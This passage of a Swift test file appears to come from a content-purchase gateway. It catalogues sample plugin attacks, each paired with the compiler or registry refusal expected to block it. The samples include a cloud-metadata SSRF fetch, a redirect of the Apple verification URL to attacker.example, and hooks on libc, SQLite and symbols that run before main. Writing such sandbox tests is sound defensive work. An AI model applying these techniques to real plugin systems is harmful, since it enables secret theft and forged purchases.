import Foundation
import Testing

/// Handler modules that try to reach content, purchases, tokens or secrets without the verification, each
/// written as a plugin author would against the handler API, and what must refuse it: the compiler, or the
/// registry's check of handler modules (which fails the build). Grouped by what they attempt.
enum Attacks {
    enum Refuser: Sendable {
        case compiler
        case registry
    }

    struct Attack: Sendable, CustomTestStringConvertible {
        let name: String
        let source: String
        let refusedBy: Refuser
        /// What the refusal must say.
        let refusal: String
        /// The package modules the plugin declares it depends on (for the registry).
        var dependencies: [String] = []
        /// The macro modules the plugin's dependencies reach (for the registry).
        var macros: [String] = []
        /// The binary targets the plugin's dependencies reach (for the registry).
        var binaries: [String] = []
        /// Source files of packages from outside this one that the plugin's dependencies reach (for the registry).
        var outside: [(name: String, text: String)] = []
        /// The names of the modules from outside the plugin's dependencies reach (for the registry).
        var outsideModules: [String] = []

        var testDescription: String { name }
    }

    static let header = """
        import Foundation
        import GatewayHandlerAPI

        """

    /// A content handler and two plain handlers as the API means them to be written: they must compile and pass
    /// the registry's check, so a broken harness cannot pass for a refusal.
    static let honest =
        header + """
            public struct Honest: ContentHandler {
                public static let name = "honest"
                let catalog: Catalog
                public init(_ setup: HandlerSetup, needs catalog: Catalog) { self.catalog = catalog }
                public func requestedProduct(in request: GatewayRequest, context: RequestContext) throws -> String { "p" }
                public func respond(
                    to request: GatewayRequest, entitlement: borrowing VerifiedEntitlement, context: RequestContext
                ) throws -> GatewayResponse {
                    var response = try entitlement.content()
                    response.headers.add("X-Product", entitlement.productId)
                    return response
                }
            }
            public struct Asks: GatewayHandler {
                public static let name = "asks"
                let needs: Capabilities<PurchaseVerifier, SupportDesk>
                public init(_ setup: HandlerSetup, needs: Capabilities<PurchaseVerifier, SupportDesk>) throws {
                    self.needs = needs
                    _ = setup.config.string("greeting")
                }
                public func respond(to request: GatewayRequest, context: RequestContext) throws -> GatewayResponse {
                    let verified = try needs.values.0.verify(context: context)
                    _ = try needs.values.1.lookUp(.transactionId("1"), context: context)
                    return GatewayResponse(status: verified.entitlements.isEmpty ? 403 : 200)
                }
            }
            @propertyWrapper public struct Trimmed: Sendable {
                public var wrappedValue: String { didSet { wrappedValue = wrappedValue.trimmed() } }
                public init(wrappedValue: String) { self.wrappedValue = wrappedValue.trimmed() }
            }
            extension String {
                @inlinable @discardableResult func trimmed() -> String { trimmingCharacters(in: .whitespaces) }
            }
            public struct Plain: GatewayHandler {
                public static let name = "plain"
                @Trimmed var greeting = " hello "
                @available(*, deprecated, message: "ordinary attributes pass") public static var old: Int { 0 }
                public init(_ setup: HandlerSetup, needs: NoNeeds) {
                    let work: @Sendable (@escaping @Sendable () -> Void) -> Void = { $0() }
                    work {}
                }
                public func respond(to request: GatewayRequest, context: RequestContext) throws -> GatewayResponse {
                    GatewayResponse(status: 200, headers: [("X-Accel-Redirect", "/_storegate_content/a.pdf")])
                }
            }
            // Conformances within the module: its own type to a protocol of the standard library's, and a type
            // of the standard library's to its own protocol.
            extension Plain: CustomStringConvertible { public var description: String { "plain" } }
            protocol Greeting {}
            extension String: Greeting {}
            let modules = [HandlerModule.module(Honest.self), .module(Asks.self), .module(Plain.self)]
            """

    static let all =
        servingFiles + grantingPurchases + lookingUpOthers + readingSecrets + escapingEntitlements
        + verifyingAndServing + forgingTheSeam + hidingFromTheRegistry + [writtenByAMacro] + reachingThroughAPackage
        + cSpellings + placingCode + hookingTheGateway + hookingTheLedger + reachingTheStorage

    /// Content in object storage: a module that reads the URL nginx is to fetch, points nginx at one of its
    /// own, finds a product's object key, or signs a link with the storage's key itself.
    static let reachingTheStorage = [
        Attack(
            name: "reaching the storage: the signed URL an s3-proxy answer has nginx fetch",
            source: """
                func fetched(_ response: GatewayResponse) -> String? { response.delivery?.webServerTarget?.fetch }
                """,
            refusedBy: .compiler, refusal: "'delivery' is inaccessible due to 'package' protection level"),
        Attack(
            name: "reaching the storage: nginx sent to fetch a URL of the module's choosing",
            source: """
                let pointed = ContentDelivery(
                    .webServerFetch(uri: "/_storegate_remote/", url: "http://169.254.169.254/latest/meta-data/"),
                    exchange: 1)
                """,
            refusedBy: .compiler, refusal: "cannot find 'ContentDelivery' in scope"),
        Attack(
            name: "reaching the storage: a product's object key",
            source: """
                func key(of product: Product) -> String? {
                    guard case .object(let key)? = product.content?.source else { return nil }
                    return key
                }
                """,
            refusedBy: .compiler, refusal: "is inaccessible due to 'package' protection level"),
        Attack(
            name: "reaching the storage: a presigned link of the module's own making",
            source: """
                import ContentStorage
                let bucket = S3Bucket(
                    scheme: "https", host: "s3.amazonaws.com", port: nil, name: "b", region: "us-east-1", addressing: .path)
                let link = S3Presigner(bucket: bucket, credentials: S3Credentials(accessKeyId: "a", secretAccessKey: "s"))
                    .url("GET", key: "levels/9.pak", at: Date(), expires: 604_800)
                """,
            refusedBy: .registry, refusal: "names ContentStorage, a module of this package",
            dependencies: ["ContentStorage"]),
        Attack(
            name: "reaching the storage: the gateway's own presigner from the content section",
            source: """
                import ContentStorage
                func presigner(_ setup: HandlerSetup) -> S3Presigner? { StorageSettings.presigner(setup.config) }
                """,
            refusedBy: .registry, refusal: "names ContentStorage, a module of this package",
            dependencies: ["ContentStorage"]),
    ]

    /// A twenty-seventh reviewer's, each of which compiled and passed the check, and held at run time only because
    /// nothing in the gateway happened to print the values: a conformance of the gateway's types to a protocol
    /// of the standard library's holds in the whole binary (every `"\(reader)"` of the gateway would run the
    /// module's `write(to:)` with the gateway's value, a whole-document config reader among them), and the
    /// standard library's public `_typeByName` finds any type of the binary by a name built at run time.
    static let hookingTheGateway =
        [
            (
                "a retroactive conformance of the config reader",
                "extension ConfigReader: @retroactive TextOutputStreamable {\n"
                    + "    public func write<T: TextOutputStream>(to target: inout T) {}\n}",
                "makes ConfigReader, a type it does not declare, conform to TextOutputStreamable"
            ),
            (
                "an unmarked conformance of an error, named with its module",
                "extension GatewayHandlerAPI.GatewayError: Swift.CustomDebugStringConvertible {\n"
                    + "    public var debugDescription: String { \"\" }\n}",
                "makes GatewayHandlerAPI.GatewayError, a type it does not declare, conform to "
                    + "Swift.CustomDebugStringConvertible"
            ),
            (
                // A twenty-ninth reviewer's: a nested type of the same name counted as declaring the type.
                "a conformance of the gateway's type named like a nested type of the module's",
                "enum Labels { struct ConfigReader {} }\n"
                    + "extension ConfigReader: @retroactive CustomStringConvertible { public var description: String { \"\" } }",
                "makes ConfigReader, a type it does not declare, conform to CustomStringConvertible"
            ),
            (
                "a conformance to the standard library's protocol named like a nested one of the module's",
                "enum Labels { protocol CustomStringConvertible {} }\n"
                    + "extension HandlerSetup: @retroactive CustomStringConvertible { public var description: String { \"\" } }",
                "makes HandlerSetup, a type it does not declare, conform to CustomStringConvertible"
            ),
            (
                "a conformance through a type alias, in a composition",
                "typealias Setup = HandlerSetup\nprotocol Mine {}\n"
                    + "extension Setup: Mine & CustomStringConvertible { public var description: String { \"\" } }",
                "makes Setup, a type it does not declare, conform to Mine & CustomStringConvertible"
            ),
            (
                "the standard library's type lookup by a name built at run time",
                "let found = _typeByName(\"20Purchase\" + \"Verification13ContentGrantsV\")",
                "names _typeByName, the Swift runtime's reflection or type lookup"
            ),
        ].map { name, source, refusal in
            Attack(name: "hooking the gateway: \(name)", source: source, refusedBy: .registry, refusal: refusal)
        }
        + [
            // A twenty-eighth reviewer's: a module of a package from outside named like the toolchain's
            // Synchronization was taken for it by the gateway's own modules, and kept what each Mutex guarded.
            Attack(
                name: "a module from outside named like one of the toolchain's", source: "import Outside",
                refusedBy: .registry,
                refusal: "depends on a module named Synchronization, as the toolchain's own",
                outside: [("Mutex.swift", "public struct Mutex<Value> {}")], outsideModules: ["Synchronization"]),
            Attack(
                name: "a module from outside named like a C module of the toolchain's", source: "import Outside",
                refusedBy: .registry, refusal: "depends on a module named SwiftGlibc, as the toolchain's own",
                outside: [("Shim.swift", "public let shim = 1")], outsideModules: ["SwiftGlibc"]),
            // A twenty-ninth reviewer's: a module named like another platform's flips every later module's
            // `#if canImport(Darwin)`.
            Attack(
                name: "a module from outside named like another platform's", source: "import Outside",
                refusedBy: .registry, refusal: "depends on a module named Darwin, as the toolchain's own",
                outside: [("Darwin.swift", "@_exported import Glibc")], outsideModules: ["Darwin"]),
            // A twenty-ninth reviewer's: a Swift module named like clang's builtin `<stddef.h>` module became its
            // overlay, seen by every `import Foundation` of the gateway (its `Array.init` ran before main's).
            Attack(
                name: "a module from outside named like one of clang's builtin header modules",
                source: "import Outside",
                refusedBy: .registry, refusal: "depends on a module named _Builtin_stddef, as the toolchain's own",
                outside: [("Overlay.swift", "public let overlay = 1")], outsideModules: ["_Builtin_stddef"]),
            // A twenty-eighth reviewer's: a selector finds a declaration in any module the API loads.
            Attack(
                name: "reaching a module of this package by a module selector in a package from outside",
                source: "import Outside", refusedBy: .registry,
                refusal: "names GatewayText::, a module of this package, by a module selector",
                outside: [("Reach.swift", "import GatewayHandlerAPI\npublic let w = GatewayText::JSONWriter()")]),
            Attack(
                name: "hooking the gateway: type lookup in a package from outside", source: "import Outside",
                refusedBy: .registry, refusal: "names _typeByName, the Swift runtime's reflection or type lookup",
                outside: [("Find.swift", "public func find(_ name: String) -> Any.Type? { _typeByName(name) }")]),
        ]

    /// A thirty-third reviewer's, each built into a gateway with storegate-build (and the first in the repository)
    /// and run: SQLite is linked once into the process, and `sqlite3_auto_extension` called from a module's `init`
    /// ran the module's code inside every later `sqlite3_open_v2` of the ledger, which bound every purchase to an
    /// account of the module's and recorded one nobody made (through GRDB's C module, or a C target of the
    /// module's own package); and `@testable import NIOPosix` in a helper of the module's package (every module of
    /// a debug build is compiled for testing) reached swift-nio's channels, and on them the gateway's requests to
    /// Apple with `apple.shared_secret`.
    static let hookingTheLedger = [
        Attack(
            name: "hooking the ledger: SQLite's auto extension from the handler module",
            source: "let entry = dlsym(nil, \"sqlite3_auto_extension\")", refusedBy: .registry,
            refusal: "names sqlite3_auto_extension, SQLite's C API"),
        Attack(
            name: "hooking the ledger: SQLite's auto extension from a C target of the module's package",
            source: "import CHook", refusedBy: .registry,
            refusal: "names sqlite3_auto_extension, SQLite's C API, the ledger's database library",
            outside: [
                (
                    "hook.h",
                    "int sqlite3_auto_extension(void (*entry)(void));\n"
                        + "static inline void chook_install(void (*entry)(void)) { sqlite3_auto_extension(entry); }"
                )
            ]),
        Attack(
            name: "hooking the ledger: SQLite's API spelled across a splice in C", source: "import CHook",
            refusedBy: .registry,
            refusal: "names sqlite3_auto_extension, SQLite's C API, the ledger's database library",
            outside: [("hook.h", "int sqlite\\\n3_auto_extension(void (*entry)(void));")]),
        // The executable's definition of a shared library's function wins over the library's own.
        Attack(
            name: "hooking the transport: libfcgi's function defined again in C", source: "import CHook",
            refusedBy: .registry, refusal: "names FCGX_PutStr, libfcgi's C API",
            outside: [("hook.h", "static inline int FCGX_PutStr(const char *s, int n, void *stream) { return n; }")]),
        Attack(
            name: "hooking the ledger: libpq's function defined again in C", source: "import CHook",
            refusedBy: .registry, refusal: "names PQexecParams, libpq's C API",
            outside: [("hook.h", "void *PQexecParams(void *conn, const char *command);")]),
        Attack(
            name: "reaching through a package: a testable import of a package storegate builds with",
            source: "import Outside", refusedBy: .registry, refusal: "imports NIOPosix with @testable",
            outside: [("Peek.swift", "@testable import NIOPosix\npublic func watch() {}")]),
        Attack(
            name: "reaching through a package: a private import of a package storegate builds with",
            source: "import Outside", refusedBy: .registry, refusal: "imports NIOCore with @_private",
            outside: [("Peek.swift", "@_private(sourceFile: \"Channel.swift\") import NIOCore\npublic func watch() {}")]
        ),
    ]

    /// Swift 6.3's attributes that place code where the whole binary reaches it, accepted without an experimental
    /// flag (an eighteenth reviewer's, each run against a real gateway): `@c` gave a handler's function the name
    /// of libc's `memchr`, which the API's check of header values then called, so a content handler's header
    /// carried its own `X-Accel-Redirect` line to another product's file through nginx; `@c(unsetenv)` kept
    /// every `STOREGATE_` secret in the environment; `@used @section(".init_array")` copied them before `main`.
    static let placingCode =
        [
            (
                "a function named as libc's memchr",
                "@c(memchr) func found(_ s: UnsafeRawPointer?, _ c: Int32, _ n: Int) -> UnsafeMutableRawPointer? { nil }",
                "uses @c;"
            ),
            (
                "unsetenv made to do nothing", "@c(unsetenv) func kept(_ name: UnsafePointer<CChar>?) -> Int32 { 0 }",
                "uses @c;"
            ),
            (
                "a comment between the at sign and the attribute",
                "@/* an ordinary note */c(unsetenv) func kept(_ name: UnsafePointer<CChar>?) -> Int32 { 0 }", "uses @c;"
            ),
            (
                "code run before main",
                """
                @used @section(".init_array")
                let early: @convention(c) () -> Void = { _ = ProcessInfo.processInfo.environment }
                """,
                "uses @section;"
            ),
            ("an entry point of its own", "@main struct Start { static func main() {} }", "uses @main;"),
        ].map { name, source, refusal in
            Attack(name: "placing code: \(name)", source: source, refusedBy: .registry, refusal: refusal)
        }
        + [
            (
                "Interpose.swift", "@c(memchr) public func found(_ s: UnsafeRawPointer?) -> UnsafeRawPointer? { nil }",
                "(@c)"
            ),
            (
                "Keep.swift", "@_cdecl(\"unsetenv\") public func kept(_ name: UnsafePointer<CChar>?) -> Int32 { 0 }",
                "(@_cdecl)"
            ),
            (
                "Early.swift",
                "@used @section(\".init_array\")\npublic let early: @convention(c) () -> Void = { }",
                "other than a debugger's (@section)"
            ),
            (
                "Escaped.swift", "@used @section(\"\\u{2E}lldbformatters\")\npublic let early: Int = 1",
                "other than a debugger's (@section)"
            ),
            // A nineteenth reviewer's, each run through nginx or in CGI mode: a definition under a symbol's name.
            (
                "Find.swift",
                "@_silgen_name(\"memchr\")\npublic func find(_ s: UnsafeRawPointer?, _ c: Int32, _ n: Int) "
                    + "-> UnsafeMutableRawPointer? { nil }",
                "defines a function under a symbol's name of its own (@_silgen_name with a body)"
            ),
            (
                "Keep.swift",
                "#if os(Linux)\n@_silgen_name(\"unsetenv\")\n#endif\n"
                    + "public func kept(_ name: UnsafePointer<CChar>?) -> Int32 { 0 }",
                "defines a function under a symbol's name of its own (@_silgen_name with a body)"
            ),
            (
                "Getter.swift", "public var kept: Int32 { @_silgen_name(\"getpid\") get { 0 } }",
                "defines a function under a symbol's name of its own (@_silgen_name with a body)"
            ),
        ].map { file, text, refusal in
            Attack(
                name: "placing code: \(file) in a package from outside", source: "import Outside", refusedBy: .registry,
                refusal: refusal, outside: [(file, text)])
        }

    /// 1. A plain handler serves a content file.
    static let servingFiles = [
        Attack(
            name: "serving files: a response whose content is a file of the plugin's choosing",
            source: """
                func serve() -> GatewayResponse {
                    var response = GatewayResponse(status: 200)
                    response.delivery = ContentDelivery(.file(FileSlice(path: "/srv/content/a.pdf", offset: 0, length: 9)), exchange: 1)
                    return response
                }
                """,
            refusedBy: .compiler, refusal: "'delivery' is inaccessible due to 'package' protection level"),
        Attack(
            name: "serving files: a file slice streamed as the body",
            source: "let slice = FileSlice(path: \"/srv/content/a.pdf\", offset: 0, length: 9)",
            refusedBy: .compiler, refusal: "cannot find 'FileSlice' in scope"),
        Attack(
            name: "serving files: the content root from the catalog module",
            source: """
                import ProductCatalog
                let file = ContentRoot(path: "/srv/content").file("issues/1.pdf")
                """,
            refusedBy: .registry, refusal: "names ProductCatalog, a module of this package",
            dependencies: ["ProductCatalog"]),
        Attack(
            name: "serving files: the catalog's path of a product's file",
            source: """
                func path(of product: Product, in catalog: Catalog) -> String? {
                    product.content.map { catalog.contentRoot + "/" + $0.relativePath }
                }
                """,
            refusedBy: .compiler, refusal: "is inaccessible due to 'package' protection level"),
    ]

    /// 2. A handler writes a purchase and issues a token.
    static let grantingPurchases = [
        Attack(
            name: "granting purchases: the ledger, imported",
            source: """
                import PurchaseLedger
                func grant(_ ledger: any PurchaseLedger) throws {
                    _ = try ledger.record(LedgerBatch(transactions: [], source: .verify, requestId: "x"))
                }
                """,
            refusedBy: .registry, refusal: "names PurchaseLedger, a module of this package"),
        Attack(
            name: "granting purchases: a dependency on the ledger in Package.swift",
            source: "let nothing = 0",
            refusedBy: .registry, refusal: "depends on PurchaseLedger, a module of this package",
            dependencies: ["PurchaseLedger"]),
        Attack(
            name: "granting purchases: a token issuer of the plugin's own",
            source: """
                let tokens = DownloadTokens(secret: "stolen-secret-0123456789", ttl: 900)
                let token = tokens.issue(productId: "p", originalTransactionId: "1", environment: "Production")
                """,
            refusedBy: .compiler, refusal: "cannot find 'DownloadTokens' in scope"),
        Attack(
            name: "granting purchases: a capability of the plugin's own that hands out what the gateway provides",
            source: """
                struct Everything: HandlerNeeds {
                    let source: CapabilitySource
                    static func provided(by source: CapabilitySource) throws -> Provision<Everything> {
                        Provision(Everything(source: source))
                    }
                }
                """,
            refusedBy: .compiler,
            refusal: "'Provision<Value>' initializer is inaccessible due to 'package' protection level"),
        Attack(
            name: "granting purchases: the provider behind the capabilities",
            source: """
                func verifier(_ source: CapabilitySource) throws -> PurchaseVerifier { try source.provider.purchaseVerifier() }
                """,
            refusedBy: .compiler, refusal: "'provider' is inaccessible due to 'package' protection level"),
        Attack(
            name: "granting purchases: an entitlement with a token the plugin made up",
            source: """
                let forged = Entitlement(productId: "p", originalTransactionId: "1", expiresDate: nil)
                """,
            refusedBy: .compiler, refusal: "'Entitlement' initializer is inaccessible due to 'package' protection level"
        ),
    ]

    /// 3. A handler finds someone else's purchase and issues a token for it.
    static let lookingUpOthers = [
        Attack(
            name: "looking up others: the support desk's purchase, turned into a download token",
            source: """
                func steal(_ desk: SupportDesk, context: RequestContext) throws -> DownloadToken? {
                    let found = try desk.lookUp(.transactionId("1000000000000001"), context: context)
                    guard let purchase = found.purchases.first else { return nil }
                    return DownloadToken(token: purchase.originalTransactionId, expires: .distantFuture)
                }
                """,
            refusedBy: .compiler,
            refusal: "'DownloadToken' initializer is inaccessible due to 'package' protection level"),
        Attack(
            name: "looking up others: the support lookup with the ledger behind it",
            source: """
                import PurchaseVerification
                func story(_ lookup: PurchaseLookup, context: RequestContext) throws -> SupportLookup {
                    try lookup.lookUp(.transactionId("1"), context: context)
                }
                """,
            refusedBy: .registry, refusal: "names PurchaseVerification, a module of this package"),
    ]

    /// 4. A handler reads config outside its own section (secrets).
    static let readingSecrets = [
        Attack(
            name: "reading secrets: a reader of the whole config document",
            source: """
                func secret() -> String? {
                    ConfigReader(document: .null, baseDirectory: "/etc/storegate", environment: ProcessInfo.processInfo.environment)
                        .scoped("tokens").string("secret")
                }
                """,
            refusedBy: .compiler,
            refusal: "'ConfigReader' initializer is inaccessible due to 'package' protection level"),
        Attack(
            name: "reading secrets: the config file parsed again",
            source: """
                import ConfigYAML
                func secret(_ text: String) throws -> String? {
                    try ConfigReader(yaml: text, source: "x", baseDirectory: "/", environment: [:]).scoped("tokens").string("secret")
                }
                """,
            refusedBy: .registry, refusal: "names ConfigYAML, a module of this package"),
        Attack(
            name: "reading secrets: the accounts section's assertions, signed by the plugin",
            source: """
                let assertion = AccountAssertions(secret: "x", maximumLifetime: 900).issue(accountId: "victim", lifetime: 60)
                """,
            refusedBy: .compiler, refusal: "cannot find 'AccountAssertions' in scope"),
    ]

    /// 5. A content handler serves another product, or keeps its entitlement for later requests.
    static let escapingEntitlements = [
        Attack(
            name: "escaping entitlements: kept in a property for later requests",
            source: """
                final class Keeper: @unchecked Sendable { var kept: VerifiedEntitlement? }
                """,
            refusedBy: .compiler, refusal: "cannot return a ~Escapable result"),
        Attack(
            name: "escaping entitlements: kept in a global",
            source: "nonisolated(unsafe) var kept: [VerifiedEntitlement] = []",
            refusedBy: .compiler, refusal: "does not conform to protocol 'Escapable'"),
        Attack(
            name: "escaping entitlements: captured by a closure that runs later",
            source: """
                nonisolated(unsafe) var later: [() throws -> GatewayResponse] = []
                struct Saver: ContentHandler {
                    static let name = "saver"
                    init(_ setup: HandlerSetup, needs: NoNeeds) {}
                    func requestedProduct(in request: GatewayRequest, context: RequestContext) throws -> String { "cheap" }
                    func respond(
                        to request: GatewayRequest, entitlement: borrowing VerifiedEntitlement, context: RequestContext
                    ) throws -> GatewayResponse {
                        later.append { try entitlement.content() }
                        return GatewayResponse(status: 204)
                    }
                }
                """,
            refusedBy: .compiler, refusal: "'entitlement' is borrowed and cannot be consumed"),
        Attack(
            name: "escaping entitlements: copied first, then captured by a task",
            source: """
                struct Copier: ContentHandler {
                    static let name = "copier"
                    init(_ setup: HandlerSetup, needs: NoNeeds) {}
                    func requestedProduct(in request: GatewayRequest, context: RequestContext) throws -> String { "cheap" }
                    func respond(
                        to request: GatewayRequest, entitlement: borrowing VerifiedEntitlement, context: RequestContext
                    ) throws -> GatewayResponse {
                        let copied = copy entitlement
                        Task { _ = try? copied.content() }
                        return GatewayResponse(status: 204)
                    }
                }
                """,
            refusedBy: .compiler, refusal: "lifetime-dependent variable 'copied' escapes its scope"),
        Attack(
            name: "escaping entitlements: boxed as Any",
            source: """
                func box(_ entitlement: borrowing VerifiedEntitlement) -> Any { entitlement }
                """,
            refusedBy: .compiler, refusal: "does not conform to 'Escapable'"),
        Attack(
            name: "escaping entitlements: content of another product than the entitlement's",
            source: """
                func other(_ entitlement: borrowing VerifiedEntitlement) throws -> GatewayResponse {
                    try entitlement.content(product: "com.example.expensive")
                }
                """,
            refusedBy: .compiler, refusal: "argument passed to call that takes no arguments"),
        Attack(
            name:
                "escaping entitlements: content for a request of the handler's making (a HEAD, so nothing is recorded)",
            source: """
                func quiet(_ entitlement: borrowing VerifiedEntitlement, _ request: GatewayRequest) throws -> GatewayResponse {
                    var head = request
                    head.method = .head
                    return try entitlement.content(for: head)
                }
                """,
            refusedBy: .compiler, refusal: "argument passed to call that takes no arguments"),
        Attack(
            name: "escaping entitlements: an entitlement minted by the plugin",
            source: """
                func mint(_ gate: any ContentGate, _ context: RequestContext) -> Int {
                    let grant = ContentGrant(
                        productId: "p", originalTransactionId: "1", environment: "Production", expiresAt: nil, exchange: 1)
                    let entitlement = VerifiedEntitlement(grant: grant, gate: gate, context: context)
                    return entitlement.productId.count
                }
                """,
            refusedBy: .compiler, refusal: "cannot find type 'ContentGate' in scope"),
    ]

    /// 6. A handler verifies a credential and serves the file itself, or speaks for another account.
    static let verifyingAndServing = [
        Attack(
            name: "verifying and serving: a request that speaks for another app account",
            source: """
                func forged(_ request: GatewayRequest) -> GatewayRequest {
                    var forged = request
                    forged.webServerAccount = "victim"
                    return forged
                }
                """,
            refusedBy: .compiler, refusal: "'webServerAccount' is a get-only property"),
        Attack(
            name: "verifying and serving: the account's storage, for another app account",
            source: """
                func forged(_ request: GatewayRequest) -> GatewayRequest {
                    var forged = request
                    forged.account = "victim"
                    return forged
                }
                """,
            refusedBy: .compiler, refusal: "'account' is inaccessible due to 'package' protection level"),
        Attack(
            name: "verifying and serving: a request made for another app account",
            source: """
                let forged = GatewayRequest(method: .get, path: "/v1/entitlements", webServerAccount: "victim")
                """,
            refusedBy: .compiler, refusal: "extra argument 'webServerAccount' in call"),
        Attack(
            name: "verifying and serving: the verifier's purchases, answered with the file",
            source: """
                func serve(_ verifier: PurchaseVerifier, _ request: GatewayRequest, _ context: RequestContext) throws -> GatewayResponse {
                    let verified = try verifier.verify(context: context)
                    var response = GatewayResponse(status: verified.entitlements.isEmpty ? 403 : 200)
                    response.delivery = ContentDelivery(.webServer(uri: "/_storegate_content/a.pdf"), exchange: context.exchange)
                    return response
                }
                """,
            refusedBy: .compiler, refusal: "'delivery' is inaccessible due to 'package' protection level"),
        Attack(
            name: "verifying and serving: the exchange's number, to bind a response to",
            source: """
                func number(_ context: RequestContext) -> UInt64 { context.exchange }
                """,
            refusedBy: .compiler, refusal: "'exchange' is inaccessible due to 'package' protection level"),
        Attack(
            name: "verifying and serving: a context made for another exchange",
            source: """
                func context() -> RequestContext {
                    RequestContext(requestId: "x", deadline: .now, logger: .init(label: "x"), exchange: 42)
                }
                """,
            refusedBy: .compiler, refusal: "extra argument 'exchange' in call"),
    ]

    /// The seam itself: a store that says yes, a content route without verification, a registry of its own.
    static let forgingTheSeam = [
        Attack(
            name: "forging the seam: a verifier that says yes to everything",
            source: """
                import PurchaseVerification
                struct Yes: VerificationBackend {
                    func accepts(_ credential: Credential) -> Bool { true }
                    func verify(_ credential: Credential, context: RequestContext) throws -> StorePurchases {
                        StorePurchases(status: 0, environment: "Production", bundleId: "x", transactions: [])
                    }
                }
                """,
            refusedBy: .registry, refusal: "names PurchaseVerification, a module of this package"),
        Attack(
            name: "forging the seam: a content route mounted without its gate",
            source: """
                func mount<Handler: ContentHandler>(_ handler: Handler) -> any RouteResponder {
                    ContentRoute(handler: handler, gate: nil)
                }
                """,
            refusedBy: .compiler, refusal: "cannot find 'ContentRoute' in scope"),
        Attack(
            name: "forging the seam: a handler module built by hand",
            source: """
                let module = HandlerModule(
                    name: "free", kind: .plain, methods: [.get], servesSubpaths: true, needs: "",
                    make: { _, _ in fatalError() })
                """,
            refusedBy: .compiler,
            refusal: "'HandlerModule' initializer is inaccessible due to 'private' protection level"),
        Attack(
            name: "forging the seam: the API's internals through a testable import",
            source: """
                @testable import GatewayHandlerAPI
                let nothing = 0
                """,
            refusedBy: .registry, refusal: "uses @testable"),
        Attack(
            name: "forging the seam: the server runtime's registry",
            source: """
                import GatewayServer
                let registry = HandlerRegistry([])
                """,
            refusedBy: .registry, refusal: "names GatewayServer, a module of this package"),
        Attack(
            name: "forging the seam: the core module under its own name",
            source: """
                @_exported import GatewayCore
                let nothing = 0
                """,
            refusedBy: .registry, refusal: "names GatewayCore, a module of this package"),
    ]

    /// A handler module whose public extensions are more specific overloads of what the app calls (found by a
    /// second reviewer who had not seen the design): the environment merged at load, the arguments of the
    /// command line, the gauge made with the gateway's own metrics factory, the catalog's paths, the services'
    /// `Result`s, and the registry's own `HandlerModule.module(_:)` for the routes that verify, deliver, take
    /// notifications, list an account's holdings or look up purchases. Each body here is a stand-in: what
    /// matters is whether the app's code calls it.
    static let hijacker = """
        import CoreMetrics
        import GatewayHandlerAPI

        extension Dictionary where Key == String, Value == String {
            public func merging(
                _ other: [String: String], uniquingKeysWith combine: (String, String) throws -> String
            ) rethrows -> [String: String] { ["STOREGATE_APPLE_PRODUCTION_URL": "https://attacker.example"] }
        }

        extension Array where Element == String {
            public init(_ slice: ArraySlice<String>) { self = ["grant", "give"] }
        }

        extension Gauge {
            public convenience init(label: String, factory: any MetricsFactory) {
                self.init(label: label, dimensions: [], factory: factory)
            }
        }

        extension ConfigReader {
            public func path(_ key: String) -> String? { "/tmp/attacker-catalog.yaml" }
            public func path(_ key: String, default defaultValue: String) -> String? { "/" }
        }

        extension Result where Failure == any Error {
            public init(catching body: () throws -> Success) { self = .failure(CancellationError()) }
        }

        extension HandlerModule {
            public static func module<H: GatewayHandler>(_ handler: H.Type) -> HandlerModule
            where H.Needs == PurchaseVerifier { .module(BypassPlugin.self) }
            public static func module<H: GatewayHandler>(_ handler: H.Type) -> HandlerModule
            where H.Needs == NotificationIntake { .module(BypassPlugin.self) }
            public static func module<H: GatewayHandler>(_ handler: H.Type) -> HandlerModule
            where H.Needs == AccountHoldings { .module(BypassPlugin.self) }
            public static func module<H: GatewayHandler>(_ handler: H.Type) -> HandlerModule
            where H.Needs == SupportDesk { .module(BypassPlugin.self) }
            public static func module<H: ContentHandler>(_ handler: H.Type) -> HandlerModule
            where H.Needs == Catalog { .module(BypassPlugin.self) }
        }

        public struct BypassPlugin: GatewayHandler {
            public static let name = "bypass"
            public init(_ setup: HandlerSetup, needs: NoNeeds) {}
            public func respond(to request: GatewayRequest, context: RequestContext) throws -> GatewayResponse {
                GatewayResponse(status: 204)
            }
        }
        """

    /// A handler module that declares, under the names of the handler modules that verify and list holdings,
    /// its own handler, hoping the registry lists it in their places (found by a third reviewer, with a macro
    /// from an outside package writing the declarations where the registry's check does not read).
    static let shadower = """
        import GatewayHandlerAPI

        public typealias VerifyHandler = BypassPlugin
        public typealias EntitlementsHandler = BypassPlugin

        public struct BypassPlugin: GatewayHandler {
            public static let name = "bypass"
            public init(_ setup: HandlerSetup, needs: NoNeeds) {}
            public func respond(to request: GatewayRequest, context: RequestContext) throws -> GatewayResponse {
                GatewayResponse(status: 204)
            }
        }
        """

    /// A module whose code a macro writes, out of the registry check's sight: a package from outside whose macro
    /// expands to `@testable import GatewayCore` passes every word check. (Found by a third reviewer.)
    static let writtenByAMacro = Attack(
        name: "hiding from the registry: code written by a macro from another package",
        source: "@attached(peer) macro Innocent() = #externalMacro(module: \"OutsideMacros\", type: \"Innocent\")",
        refusedBy: .registry, refusal: "can use the macros of OutsideMacros", macros: ["OutsideMacros"])

    /// A handler module that reaches into this package through a package from outside, which the build compiles
    /// into the same binary (a fourth reviewer's `ThreadState` package reached the exchange being answered by its
    /// symbol, and from it every key by `Mirror`), or names a symbol itself.
    static let reachingThroughAPackage = [
        Attack(
            name: "reaching through a package: the current exchange's getter by its mangled name",
            source: "import ThreadState",
            refusedBy: .registry,
            refusal: "names a symbol of GatewayCore, a module of this package, by its mangled name",
            outside: [
                (
                    "ThreadState.swift",
                    """
                    public protocol ThreadTask: AnyObject {}
                    @_silgen_name("$s11GatewayCore15CurrentExchangeO7currentAA08AnsweredD0_pSgvgZ")
                    func currentTask() -> (any ThreadTask)?
                    public enum ThreadState { public static func current() -> AnyObject? { currentTask() } }
                    """
                )
            ]),
        Attack(
            name: "reaching through a package: a C header declaring a symbol of the runtime",
            source: "import CShim",
            refusedBy: .registry,
            refusal: "names a symbol of GatewayServer, a module of this package, by its mangled name",
            outside: [("shim.h", "extern void *$s13GatewayServer8ExchangeC7respond0A4Core0A8ResponseVyF(void *);\n")]),
        Attack(
            name: "reaching through a package: the standard library's reflection SPI",
            source: "import Fields",
            refusedBy: .registry, refusal: "imports Swift with @_spi, which opens what it keeps inside",
            outside: [("Fields.swift", "@_spi(Reflection) import Swift\npublic let walk = _forEachFieldWithKeyPath")]),
        Attack(
            name: "reaching through a package: a module of this package imported",
            source: "import Ledgers",
